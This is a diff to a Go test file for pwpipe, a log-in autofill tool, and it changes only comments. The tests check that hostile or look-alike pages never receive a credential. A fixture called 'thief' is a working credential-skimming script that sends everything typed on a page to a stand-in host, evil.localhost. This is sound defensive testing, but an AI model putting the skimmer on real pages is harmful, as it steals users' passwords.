@@ -14,7 +14,8 @@ import (
 	"pwpipe/internal/pipetest"
 )
 
-// thief sends on whatever is typed on its page, by all that a page can patch and hear.
+// thief is a page that sends on everything that is typed on it. It patches and listens to all
+// that a page can.
 const thief = `<script>
 	const tell = (v) => v && navigator.sendBeacon('http://evil.localhost:PORT/got', String(v));
 	for (const name of ['value', 'defaultValue']) {
@@ -32,7 +33,7 @@ const thief = `<script>
 	setInterval(() => document.querySelectorAll('input').forEach((e) => tell(e.value)), 5);
 </script>`
 
-// fails is a log-in that must not succeed, and of which evil must not hear.
+// fails runs a log-in that must not succeed; the hostile hosts must not get a value.
 func (h *hosts) fails(p *pipetest.Pipe, why string) {
 	h.t.Helper()
 	got := p.Fail("login", []any{"shop"})
@@ -41,7 +42,7 @@ func (h *hosts) fails(p *pipetest.Pipe, why string) {
 	h.quiet()
 }
 
-// quiet: no host but shop has heard of a value.
+// quiet checks that no host but shop got a value.
 func (h *hosts) quiet() {
 	h.t.Helper()
 	for _, host := range []string{"evil", "xn--shp-ted", "shop-evil", "www"} {
@@ -53,7 +54,8 @@ func (h *hosts) quiet() {
 	}
 }
 
-// Pages that look like the log-in's get nothing: the log-in goes to its own page.
+// TestLookAlikes: pages that look like the log-in's page get no value. The log-in goes to its
+// own page.
 func TestLookAlikes(t *testing.T) {
 	t.Parallel()
 	var h *hosts
@@ -82,7 +84,8 @@ func TestLookAlikes(t *testing.T) {
 	}
 }
 
-// What leads from the log-in's page to another's, or puts one into it, gets nothing.
+// TestHostilePages: a page gets no value if it leads to another origin, frames one, or sends its
+// form there.
 func TestHostilePages(t *testing.T) {
 	t.Parallel()
 	for name, c := range map[string]struct {
@@ -120,8 +123,8 @@ func TestHostilePages(t *testing.T) {
 	}
 }
 
-// A page and a frame that turn into another's and back all the time get a value only as the
-// log-in's own.
+// TestTurningPages: a page and a frame change between the log-in's origin and another one all
+// the time. They get a value only at the log-in's origin.
 func TestTurningPages(t *testing.T) {
 	t.Parallel()
 	var turns atomic.Int64
@@ -140,7 +143,7 @@ func TestTurningPages(t *testing.T) {
 	})
 	p := h.start(shop)
 	for range pipetest.Some([]int{1, 2, 3, 4, 5}, 2) {
-		p.Try("login", []any{"shop"}, "timeout", 8) // it may come to an end or not
+		p.Try("login", []any{"shop"}, "timeout", 8) // it may succeed or not
 		h.quiet()
 		p.Call("nav", []any{h.at("shop") + "/turns"})
 		p.Try("login", []any{"shop"}, "timeout", 4)
@@ -153,8 +156,8 @@ func TestTurningPages(t *testing.T) {
 	masked(t, p.Stderr())
 }
 
-// Steps are for forms that nobody would recognise: they type where the keeper of the log-ins
-// says, and at the same origins only.
+// TestSteps: steps are for forms that pwpipe does not recognise. They type into the fields that
+// they name, and only at the log-in's origins.
 func TestSteps(t *testing.T) {
 	t.Parallel()
 	const odd = `<button id=open onclick="box.hidden = false; this.hidden = true">Members</button>
@@ -176,8 +179,8 @@ steps = [{click = "#open"}, {user = "#a"}, {password = "#b"}, {click = "#go"}]
 	h.fails(h.start(shop+strings.Replace(steps, "#a", "#none", 1)), "step 2 (user #none)")
 }
 
-// Fields in shadow roots, a name first and a password on the next page, and a code in six
-// fields are recognised; scripts of frameworks hear of what is typed.
+// TestForms: pwpipe recognises fields in shadow roots, a name first and a password on the next
+// page, and a code in six fields. Scripts of frameworks get the events of typing.
 func TestForms(t *testing.T) {
 	t.Parallel()
 	h := serve(t, map[string]any{
@@ -202,8 +205,8 @@ func TestForms(t *testing.T) {
 	}
 }
 
-// What records a session has no value in it, also where the only secrets are those of a
-// log-in's commands; and a DevTools client, which would see them all, gets no address.
+// TestRecordsOfLogins: records of a session contain no value, even if only the log-in's commands
+// know the secrets. A DevTools client, which would see the values, gets no address.
 func TestRecordsOfLogins(t *testing.T) {
 	t.Parallel()
 	var h *hosts
